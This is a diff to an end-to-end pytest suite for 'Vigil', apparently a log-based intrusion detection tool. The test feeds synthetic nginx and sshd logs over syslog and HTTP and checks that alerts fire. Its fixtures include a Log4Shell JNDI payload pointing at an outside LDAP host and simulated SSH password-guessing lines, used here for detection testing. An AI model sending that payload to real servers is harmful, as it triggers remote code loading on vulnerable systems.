@@ -1,5 +1,6 @@
 """A newcomer points rsyslog at Vigil and sees an alert within five seconds; the same over HTTP, and from a file."""
 
+import json
 import subprocess
 import time
 from collections.abc import Iterator
@@ -14,6 +15,7 @@ from tests.receiving import Rsyslog, until
 pytestmark = [pytest.mark.journey, pytest.mark.timeout(240)]
 OWNER = "Cục Mẫu về An toàn thông tin (dữ liệu mẫu)"
 GUESSED = "Dò mật khẩu qua SSH"  # Vigil's own rules, as they come with the program
+EXPLOIT = "Dấu hiệu khai thác Log4Shell trong yêu cầu web"
 LOG4SHELL = "${jndi:ldap://203.0.113.9/a}"
 RULE = """
 title: Someone knocks
@@ -79,7 +81,7 @@ def test_from_a_log_line_to_a_closed_alert(detecting: Detecting, page, shot, sig
         shipped = time.monotonic() - began
         at = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
         rsyslog.log(f'198.51.100.9 - - [{at}] "GET / HTTP/1.1" 404 0 "-" "{LOG4SHELL}"', tag="nginx")
-        page.locator(".alert-row", has_text="Dấu hiệu khai thác Log4Shell").first.wait_for(timeout=5_000)
+        page.locator(".alert-row", has_text=EXPLOIT).first.wait_for(timeout=5_000)
     finally:
         rsyslog.stop()
     print(f"\nfrom the log line to the board: {took:.1f} s; to an alert of Vigil's own rules: {shipped:.1f} s")
@@ -107,11 +109,27 @@ def test_over_http_and_from_a_file(detecting: Detecting, page, shot, sign_in) ->
         for name, more in (("Qua HTTP", []), ("Tệp", ["--path", str(detecting.logs / "*.log"), "--format", "text"]))
     ]
     token = running.vigil("sources", "token", made[0]).stdout.split()[-1]
-    sent = '{"create":{}}\n{"host":{"name":"h1"},"message":"knock-knock"}\n'
-    for shown, status in ((token, "200"), ("x" * 43, "401")):
+    at = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
+    asked = f'198.51.100.9 - - [{at}] "GET / HTTP/1.1" 404 0 "-" "{LOG4SHELL}"'
+    # as Filebeat sends the line of an access log, and as Splunk's collector is given those of sshd
+    beat = {
+        "message": asked,
+        "host": {"name": "h2"},
+        "agent": {"type": "filebeat"},
+        "log": {"file": {"path": "/a.log"}},
+    }
+    sent = '{"create":{}}\n{"host":{"name":"h1"},"message":"knock-knock"}\n{"create":{}}\n' + json.dumps(beat) + "\n"
+    stamp = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
+    guesses = "".join(
+        f"{stamp} h3 sshd[7]: Failed password for root from 198.51.100.10 port {50000 + n} ssh2\n" for n in range(12)
+    )
+    raw = "/services/collector/raw?host=h3&sourcetype=linux_secure"
+    for shown, path_, body, status in (
+        (token, "/_bulk", sent, "200"), (token, raw, guesses, "200"), ("x" * 43, "/_bulk", sent, "401")
+    ):  # fmt: skip
         said = subprocess.run(
             ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", f"Authorization: Bearer {shown}",
-             "-H", "Content-Type: application/x-ndjson", "--data-binary", sent, f"http://127.0.0.1:{detecting.http}/_bulk"],
+             "-H", "Content-Type: application/x-ndjson", "--data-binary", body, f"http://127.0.0.1:{detecting.http}{path_}"],
             capture_output=True, text=True, check=True, timeout=20,
         )  # fmt: skip
         assert said.stdout == status
@@ -120,15 +138,19 @@ def test_over_http_and_from_a_file(detecting: Detecting, page, shot, sign_in) ->
         more.write("ne knock-knock\n")
     sign_in(running)
     page.goto(f"{running.url}/sources/")
-    for name, events in (("Qua HTTP", 1), ("Tệp", 3)):
+    for name, events in (("Qua HTTP", 14), ("Tệp", 3)):
         row = page.locator("tr", has=page.get_by_role("link", name=name, exact=True))
         until(lambda row=row, events=events: _reloaded(page, row, str(events)), within_s=15)
     listeners = page.locator(".card", has_text="_bulk").inner_text()
     assert str(detecting.http) in listeners and "no token that is known" in page.content()
     shot("sources")
     shot("sources", width=390)
-    found = running.vigil("alerts", "list", "--json").stdout
-    assert found.count("Someone knocks") >= 2
+    wanted = {(EXPLOIT, "198.51.100.9"), (GUESSED, "198.51.100.10"), ("Someone knocks", "h1")}
+    until(lambda: wanted <= _alerts(running), within_s=10)
+
+
+def _alerts(running: Running) -> set[tuple[str, str]]:
+    return {(one["title"], one["entity"]) for one in json.loads(running.vigil("alerts", "list", "--json").stdout)}
 
 
 def _reloaded(page, row, events: str) -> bool:
